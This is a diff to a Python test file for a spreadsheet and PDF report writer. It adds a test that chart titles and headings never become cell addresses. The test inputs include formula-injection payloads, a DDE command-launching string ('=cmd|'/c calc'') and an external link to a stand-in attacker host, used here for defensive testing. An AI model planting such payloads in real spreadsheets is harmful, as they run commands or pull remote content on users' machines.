@@ -5,8 +5,10 @@ import re
 import shutil
 import subprocess
 import zipfile
+from dataclasses import replace
 from datetime import date
 from decimal import Decimal
+from html import unescape
 from pathlib import Path
 from typing import Final
 
@@ -93,6 +95,29 @@ def test_a_chart_draws_the_cells_of_its_table_and_nothing_else() -> None:
     drawn = re.findall(r"<c:f>([^<]*)</c:f>", inside["xl/charts/chart1.xml"])
     assert [each.rpartition("!")[2] for each in drawn] == ["$B$4", "$A$5:$A$6", "$B$5:$B$6"]
     assert "（上の表と同じ数）" in inside["xl/drawings/drawing1.xml"]
+
+
+@pytest.mark.parametrize(
+    "planted",
+    [
+        "='http://evil.example/[x.xlsx]s'!A1",
+        "=cmd|'/c calc'!A0",
+        "KPI 重要!A1",
+        "=Sheet2!$A$1",
+        *PLANTED,
+    ],
+)
+def test_no_title_and_no_heading_of_a_chart_is_an_address(planted: str) -> None:
+    sheet = replace(REPORT.sheets[0], title=planted, headings=(planted,) * 4)
+
+    inside = parts(xlsx_file.write(replace(REPORT, title=planted, sheets=(sheet,))))
+
+    drawn = "".join(text for name, text in inside.items() if name.startswith("xl/charts/"))
+    [name, _] = re.findall(r'<sheet name="([^"]*)"', inside["xl/workbook.xml"])
+    own = unescape(name).replace("'", "''")
+    found = {unescape(each) for each in re.findall(r"<c:f>([^<]*)<", drawn)}
+    addresses = {each.removeprefix(f"'{own}'!").removeprefix(f"{own}!") for each in found}
+    assert addresses == {"$B$4", "$A$5:$A$6", "$B$5:$B$6"}
 
 
 @pytest.mark.parametrize("write", [xlsx_file.write, pdf_file.write])
